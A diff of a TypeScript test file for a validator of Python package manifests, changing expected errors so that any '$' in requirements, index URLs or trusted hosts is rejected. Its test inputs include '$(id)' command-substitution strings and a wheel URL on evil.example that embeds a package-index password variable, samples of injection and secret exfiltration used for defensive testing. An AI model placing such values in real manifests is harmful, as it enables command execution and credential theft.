@@ -74,10 +74,15 @@ const invalidCases: [name: string, change: (m: Manifest) => void, expected: [pat
   [
     'command substitution',
     (m) => (m.spec.pythonPackages.packages = ['$(id)']),
+    [[`${pp}.packages[0]`, `invalid requirement "$(id)": contains '$', which is not allowed (pip expands \${VAR})`]],
+  ],
+  [
+    'a variable as the version',
+    (m) => (m.spec.pythonPackages.packages = ['requests==${VERSION}']),
     [
       [
         `${pp}.packages[0]`,
-        `invalid requirement "$(id)": expected a project name (letters, digits, '.', '_' and '-') at position 1, found '$(id)'`,
+        `invalid requirement "requests==\${VERSION}": contains '$', which is not allowed (pip expands \${VAR})`,
       ],
     ],
   ],
@@ -172,7 +177,7 @@ const invalidCases: [name: string, change: (m: Manifest) => void, expected: [pat
     [
       [
         `${pp}.packages[0]`,
-        'invalid requirement "requests; python_version == \\"$(id)\\"": marker string "$(id)" may contain only letters, digits, spaces and . _ - * + ! ~ : (and no - after a space)',
+        `invalid requirement "requests; python_version == \\"$(id)\\"": contains '$', which is not allowed (pip expands \${VAR})`,
       ],
     ],
   ],
@@ -202,7 +207,7 @@ const invalidCases: [name: string, change: (m: Manifest) => void, expected: [pat
     [
       [
         `${pp}.packages[0]`,
-        `invalid requirement "pkg @ https://evil.example/\${KASPR_PACKAGES_INDEX_PASSWORD}.whl": URL must not contain '$' (pip expands \${...} references)`,
+        `invalid requirement "pkg @ https://evil.example/\${KASPR_PACKAGES_INDEX_PASSWORD}.whl": contains '$', which is not allowed (pip expands \${VAR})`,
       ],
     ],
   ],
@@ -230,10 +235,7 @@ const invalidCases: [name: string, change: (m: Manifest) => void, expected: [pat
     'every bad requirement reported at once',
     (m) => (m.spec.pythonPackages.packages = ['ok-pkg', '$(id)', 'requests==']),
     [
-      [
-        `${pp}.packages[1]`,
-        `invalid requirement "$(id)": expected a project name (letters, digits, '.', '_' and '-') at position 1, found '$(id)'`,
-      ],
+      [`${pp}.packages[1]`, `invalid requirement "$(id)": contains '$', which is not allowed (pip expands \${VAR})`],
       [
         `${pp}.packages[2]`,
         `invalid requirement "requests==": expected a version after '==' at position 11, found the end`,
@@ -278,7 +280,7 @@ const invalidCases: [name: string, change: (m: Manifest) => void, expected: [pat
   [
     'index URL with ${VAR}',
     (m) => (m.spec.pythonPackages.indexUrl = 'https://pypi.example.com/${HOME}/simple'),
-    [[`${pp}.indexUrl`, "URL must not contain '$' (pip expands ${...} references)"]],
+    [[`${pp}.indexUrl`, "URL contains '$', which is not allowed (pip expands ${VAR})"]],
   ],
   ['index URL not a string', (m) => (m.spec.pythonPackages.indexUrl = 5), [[`${pp}.indexUrl`, 'must be a string']]],
   [
@@ -324,6 +326,11 @@ const invalidCases: [name: string, change: (m: Manifest) => void, expected: [pat
     'trusted host port out of range',
     (m) => (m.spec.pythonPackages.trustedHosts = ['pypi.example.com:99999']),
     [[`${pp}.trustedHosts[0]`, 'port 99999 is out of range']],
+  ],
+  [
+    'trusted host with ${VAR}',
+    (m) => (m.spec.pythonPackages.trustedHosts = ['${MIRROR_HOST}']),
+    [[`${pp}.trustedHosts[0]`, "contains '$', which is not allowed (pip expands ${VAR})"]],
   ],
   [
     'trusted host with a shell word',
